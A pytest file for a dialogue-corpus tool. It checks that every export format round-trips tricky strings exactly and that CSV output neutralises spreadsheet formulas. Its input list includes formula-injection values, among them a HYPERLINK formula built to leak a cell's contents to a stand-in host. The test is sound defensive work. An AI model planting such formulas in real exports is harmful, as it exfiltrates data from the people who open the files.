"""Write → read is exact in every format we write, whatever characters the texts hold."""

import csv

import pytest
from django.core.management import call_command

from annotation.dataset_reads import dataset_records
from annotation.models import Dataset
from corpora import READERS, WRITERS
from corpora.generic import read_parlai
from corpora.records import DialogueRecord, UtteranceRecord
from evalstats.spreadsheets import FORMULA_STARTS

NASTY = [
    "C:\\new\\table",
    "a\rb",
    "a\r\nb",
    "x\u2028y",
    "p\u2029q",
    "v\x0bw\x0cz",
    "fs\x1cgs\x1drs\x1eend",
    "a|b __PIPE__ c",
    "__PIPE_|x",
    "__PIPE|y",
    "__PIPE__PIPE__",
    "\\__PIPE__ and \\|",
    "ends with a backslash \\",
    "\\t is not a tab, \\n not a newline, \\\\ two",
    "tab\there",
    "emoji 😀",
    "say \"hi\", then 'bye', ok",
    # Formulas to a spreadsheet (CSV cells get a leading quote, taken off when read back):
    '=HYPERLINK("http://example.org/?leak="&A1, "click")',
    "+1",
    "-2 is not a score here",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice quoted",
    "'just a quote",
]


def _records() -> list[DialogueRecord]:
    return [
        DialogueRecord(
            key=f"k{n}|{text}",
            utterances=[
                UtteranceRecord(
                    speaker=f"s|{text}",
                    text=text,
                    label="joy",
                    annotations={"note": text, "votes": {"joy": 3}},
                    worker=f"w{n}",
                ),
                UtteranceRecord(speaker="b", text=f"reply to {text}"),
                UtteranceRecord(speaker="a", text=text),
            ],
            source=f"src {text}",
            split="train",
            emotion="proud",
            situation=f"situation {text}",
            situation_author=f"author {text}",
            metadata={"m": text},
        )
        for n, text in enumerate(NASTY)
    ]


def _fields(records: list[DialogueRecord]) -> list[dict]:
    return [{**r.as_dict(), "where": None} for r in records]


@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_write_then_read_gives_back_every_text_exactly(tmp_path, fmt):
    path = tmp_path / f"nasty.{fmt}"
    WRITERS[fmt](_records(), path)
    assert _fields(READERS[fmt](path)) == _fields(_records())


def test_no_csv_cell_starts_a_formula(tmp_path):
    path = tmp_path / "nasty.csv"
    WRITERS["csv"](_records(), path)
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert '\'=HYPERLINK("http://example.org/?leak="&A1, "click")' in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_nasty_texts_survive_import_export_import(tmp_path, fmt):
    first = tmp_path / "first.jsonl"
    WRITERS["jsonl"](_records(), first)
    call_command("import_dataset", "jsonl", str(first), "--name", "orig")
    out = tmp_path / f"export.{fmt}"
    call_command("export", "--dataset", "orig", "--format", fmt, "--out", str(out))
    call_command("import_dataset", fmt, str(out), "--name", "again")
    texts = [
        [u.text for u in r.utterances] for r in dataset_records(Dataset.objects.get(name="again"))
    ]
    assert sorted(texts) == sorted([[t, f"reply to {t}", t] for t in NASTY])


def test_parlai_files_written_by_parlai_read_as_before(tmp_path):
    path = tmp_path / "parlai.txt"
    path.write_bytes(
        b"text:line one\\nline two\\tcol\tlabels:a __PIPE__ b C:\\path\tepisode_done:True\r\n"
    )
    [record] = read_parlai(path)
    assert [u.text for u in record.utterances] == ["line one\nline two\tcol", "a | b C:\\path"]
